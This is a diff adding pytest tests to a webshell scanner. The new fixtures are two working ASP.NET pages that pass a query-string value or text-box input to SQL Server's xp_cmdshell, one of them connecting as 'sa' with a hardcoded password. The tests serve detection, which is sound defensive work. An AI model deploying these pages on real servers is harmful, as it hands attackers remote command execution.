@@ -138,3 +138,63 @@ def test_benign_declared_call_is_read() -> None:
     # The repository's method is read as a call (a request value reaches it), not skipped.
     report = run("products.aspx", BENIGN[0][1])
     assert report.units >= 1 and report.sinks == 0
+
+
+# An `<asp:SqlDataSource>` runs its command text with its parameters bound: with xp_cmdshell as the
+# command (written out, or named as a stored procedure) a page of markup alone runs the client's
+# command on the database server (docs/detection/webshell-code.md, "Markup, assembly files...").
+SQL_SHELLS = [
+    (
+        "sds-xp.aspx",
+        """<%@ Page Language="C#" %>
+<form runat="server">
+<asp:SqlDataSource ID="q" runat="server" ConnectionString="server=.;uid=sa;pwd=Passw0rd"
+    SelectCommand="exec master..xp_cmdshell @c">
+  <SelectParameters><asp:QueryStringParameter Name="c" QueryStringField="c" /></SelectParameters>
+</asp:SqlDataSource>
+<asp:GridView ID="g" runat="server" DataSourceID="q" />
+</form>""",
+        "EXH-WS-CODE-SQL-SHELL",
+        ["query parameter 'c'"],
+    ),
+    (
+        "sds-proc.aspx",
+        """<%@ Page Language="C#" %>
+<form runat="server">
+<asp:TextBox ID="cmd" runat="server" />
+<asp:SqlDataSource ID="q" runat="server" ConnectionString="<%$ ConnectionStrings:Main %>"
+    SelectCommand="master.dbo.xp_cmdshell" SelectCommandType="StoredProcedure">
+  <SelectParameters><asp:ControlParameter Name="command_string" ControlID="cmd" /></SelectParameters>
+</asp:SqlDataSource>
+<asp:GridView ID="g" runat="server" DataSourceID="q" />
+</form>""",
+        "EXH-WS-CODE-SQL-SHELL",
+        ["page control 'cmd'"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SQL_SHELLS, ids=[s[0] for s in SQL_SHELLS])
+def test_sql_data_source_shell_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
+    assert_found(name, code, rule_id, words)
+
+
+def test_sql_data_source_read_as_its_command() -> None:
+    # The search page of `docs.aspx` is read as the SQL command it runs (no shell: see BENIGN).
+    from exhunt.codeanalysis.extract import declared_calls
+
+    calls = [c for c, _ in declared_calls(BENIGN[1][1], {})]
+    assert any(
+        'SqlCommand("SELECT Name, Size FROM Downloads' in c and 'Request.QueryString["folder"]' in c for c in calls
+    )
+    proc = [c for c, _ in declared_calls(SQL_SHELLS[1][1], {"cmd": "TextBox"})]
+    assert proc == ['new System.Data.SqlClient.SqlCommand("exec master.dbo.xp_cmdshell" + cmd.Text);']
+
+
+def test_pages_without_code_pass_the_file_hunt_prefilter() -> None:
+    from exhunt.filehunt import codehunt
+    from exhunt.filehunt.locations import Location, Place
+
+    where = Location("c:/inetpub/wwwroot/owa/x.aspx", Place.IIS_WEBROOT, True)
+    assert codehunt.wants(where, SHELLS[0][1].encode())
+    assert codehunt.wants(where, SQL_SHELLS[0][1].encode())
